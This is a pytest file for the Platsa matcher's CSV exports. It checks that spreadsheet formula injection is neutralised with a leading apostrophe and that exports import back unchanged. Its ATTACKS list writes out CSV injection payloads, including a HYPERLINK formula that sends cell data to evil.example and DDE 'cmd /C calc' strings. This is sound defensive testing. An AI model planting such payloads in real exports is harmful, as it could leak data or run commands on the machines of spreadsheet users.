"""Spreadsheet formula injection (issue 17, item 5): text that a spreadsheet would run as a
formula leaves Platsa as text.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading
apostrophe (the OWASP advice), in ``platsa export`` CSV files, the research export and the
follow-up report's CSV. Numbers stay numbers, and an exported folder still imports back to
exactly what was stored.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from matcher.domain import Opening, Participant
from matcher.io import export, import_programme
from matcher.store.engine import get_engine, init_db, session_scope
from matcher.store.repositories import add_record, get_record
from tests.matcher.store import factories
from tests.security.conftest import World

ATTACKS = ['=HYPERLINK("http://evil.example/?q="&A1,"Klicka här")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", [*ATTACKS, "'=already quoted", "''=twice"])
def test_neutralising_is_undone_exactly_on_reading(text: str) -> None:
    from matcher.io.cells import neutralised, restored

    cell = neutralised(text)
    assert cell.startswith("'")
    assert restored(cell) == text


@pytest.mark.parametrize("text", ["Bagare", "'s-Hertogenbosch", "", "1990", "55.6", "a=b"])
def test_harmless_text_is_left_as_it_is(text: str) -> None:
    from matcher.io.cells import neutralised, restored

    assert neutralised(text) == text == restored(text)


def _seed(url: str) -> None:
    engine = init_db(url)
    with session_scope(engine) as session:
        factories.seed(session)
        add_record(session, factories.opening(id="o-evil", title=ATTACKS[0],
                                              description=ATTACKS[3]))
        add_record(session, factories.participant(id="p-evil", free_text=ATTACKS[1],
                                                  needs_notes=ATTACKS[4],
                                                  prior_trades=[{"title": ATTACKS[2], "years": 2}]))
    engine.dispose()


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_platsa_export_neutralises_formulas_and_keeps_numbers(platsa_home: Path) -> None:
    from platsa.cli.main import _register, app
    from platsa.settings import get_settings

    _seed(get_settings().paths.resolved_database_url)
    _register()
    result = CliRunner().invoke(app, ["export", "--out", str(platsa_home / "out")])
    assert result.exit_code == 0, result.output
    openings = {row["id"]: row for row in _cells(platsa_home / "out" / "openings.csv")}
    assert openings["o-evil"]["title"] == "'" + ATTACKS[0]
    assert openings["o-evil"]["description"] == "'" + ATTACKS[3]
    people = {row["id"]: row for row in _cells(platsa_home / "out" / "participants.csv")}
    assert people["p-evil"]["free_text"] == "'" + ATTACKS[1]
    assert people["p-evil"]["needs_notes"] == "'" + ATTACKS[4].strip()  # records strip the tab
    assert people["p-evil"]["birth_year"] == "1988"  # numbers stay numbers
    float(people["p-evil"]["home_lat"])
    for row in [*openings.values(), *people.values()]:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_an_exported_folder_imports_back_unchanged(tmp_path: Path) -> None:
    source = f"sqlite:///{tmp_path / 'a.db'}"
    _seed(source)
    engine = get_engine(source)
    export(engine, tmp_path / "out", "csv")
    engine.dispose()
    target = init_db(f"sqlite:///{tmp_path / 'b.db'}")
    import_programme(target, tmp_path / "out")
    with session_scope(target) as session:
        assert get_record(session, Opening, "o-evil").title == ATTACKS[0]
        person = get_record(session, Participant, "p-evil")
        assert (person.free_text, person.needs_notes) == (ATTACKS[1], ATTACKS[4].strip())
        assert person.prior_trades[0].title == ATTACKS[2]
    target.dispose()


def test_the_research_export_neutralises_formulas(world: World) -> None:
    """An opening id may start with '-' (``-A1`` is a formula to a spreadsheet)."""
    from tests.serving.conftest import TODAY

    engine = get_engine(world.settings.paths.resolved_database_url)
    with session_scope(engine) as session:
        add_record(session, factories.opening(id="-A1", title="Praktik", posted_at=TODAY,
                                              start_date=TODAY,
                                              end_date=TODAY + dt.timedelta(days=30)))
        add_record(session, factories.placement(id="pl-minus", participant_id="p3",
                                                opening_id="-A1", created_at=TODAY))
    engine.dispose()
    answer = world.client.get("/exports/placements", headers=world.headers("data_scientist"))
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert "'-A1" in {row["opening_id"] for row in rows}
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
